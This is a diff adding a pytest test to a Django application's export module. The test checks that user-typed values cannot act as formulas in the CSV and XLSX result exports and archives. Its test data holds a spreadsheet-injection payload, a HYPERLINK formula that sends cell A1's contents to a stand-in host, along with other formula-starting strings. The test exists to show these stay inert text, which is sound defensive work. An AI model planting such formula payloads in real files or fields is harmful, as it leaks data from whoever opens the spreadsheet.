@@ -416,3 +416,79 @@ def test_export_files_are_purged_after_a_week(committee, django_capture_on_commi
         counts = retention.purge_expired(now=now + datetime.timedelta(days=8))["mlhg_app.exports"]
     assert counts == {"exports": 1, "fichiers": 1}
     assert not default_storage.exists(export.fichier.name)
+
+
+# -- formulas in exports ------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Pyrène")'
+TYPED = {"raison_sociale": HYPERLINK, "commentaire": "=1+1", "motif": "@SUM(A1:A9)", "tab": "\t-2+3"}
+
+
+def _formula_cells(workbook) -> list[str]:
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+@pytest.mark.django_db
+def test_hole_09_what_a_candidate_or_an_evaluator_types_stays_text_in_every_csv_and_xlsx(
+    committee,  # noqa: F811
+    tmp_path,
+):
+    from openpyxl import load_workbook
+
+    from ami.models import Note, Prestataire
+
+    with time_machine.travel(AFTER, tick=False):
+        scored(committee)
+        d = committee["dossiers"]
+        Prestataire.objects.filter(pk=d["A"].prestataire_id).update(raison_sociale=TYPED["raison_sociale"])
+        Note.objects.filter(evaluation__dossier=d["C"]).update(commentaire=TYPED["commentaire"])
+        Dossier.objects.filter(pk=d["D"].pk).update(motif_detail=TYPED["motif"])
+        Prestataire.objects.filter(pk=d["B"].prestataire_id).update(raison_sociale=TYPED["tab"])
+        client = login(committee["staff"])
+        xlsx = client.get(reverse("ami:results_xlsx", args=["ami-2026"])).content
+        results_csv = client.get(reverse("ami:results_csv", args=["ami-2026"])).content.decode("utf-8-sig")
+        with open(tmp_path / "a.zip", "w+b") as handle:
+            ami_archive(committee["ami"], handle)
+            handle.seek(0)
+            archive = zipfile.ZipFile(handle)
+            eligibility = read_csv(archive, "recevabilite.csv")
+            grids = read_csv(archive, "evaluations.csv")
+            archived_results = read_csv(archive, "resultats.csv")
+
+    # XLSX (read back by openpyxl): no formula anywhere; the text shown as typed; numbers stay numbers.
+    workbook = load_workbook(io.BytesIO(xlsx))
+    assert _formula_cells(workbook) == []
+    sheet = workbook.active
+    names = [sheet.cell(row=i, column=2).value for i in (2, 3, 4)]
+    assert names == [TYPED["tab"], TYPED["raison_sociale"], "Candidat C"]
+    assert [sheet.cell(row=i, column=2).data_type for i in (2, 3, 4)] == ["s", "s", "s"]
+    assert [sheet.cell(row=i, column=2).quotePrefix for i in (2, 3, 4)] == [True, True, False]
+    assert [sheet.cell(row=i, column=1).value for i in (2, 3, 4)] == [1, 2, 3]
+    assert sheet.cell(row=2, column=sheet.max_column).value == 80.0
+    assert sheet.cell(row=2, column=sheet.max_column).data_type == "n"
+
+    # CSV (read back by the csv module): a cell that would start a formula starts with a quote.
+    results = list(csv.reader(io.StringIO(results_csv), delimiter=";"))
+    for rows in (results, archived_results):
+        assert [(r[0], r[1], r[-1]) for r in rows[1:]] == [
+            ("1", "'" + TYPED["tab"], "80,00"),
+            ("2", "'" + TYPED["raison_sociale"], "77,44"),
+            ("3", "Candidat C", "72,29"),
+        ]
+    comments = {row[4] for row in grids[1:] if row[0] == "Candidat C"}
+    assert comments == {"'=1+1"}
+    assert {row[0]: row[4] for row in eligibility[1:]}["Candidat D"] == "'@SUM(A1:A9)"
+    assert {row[0] for row in eligibility[1:]} == {
+        "'" + TYPED["raison_sociale"],
+        "'" + TYPED["tab"],
+        "Candidat C",
+        "Candidat D",
+    }
+    every_cell = [cell for rows in (results, archived_results, grids, eligibility) for row in rows for cell in row]
+    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
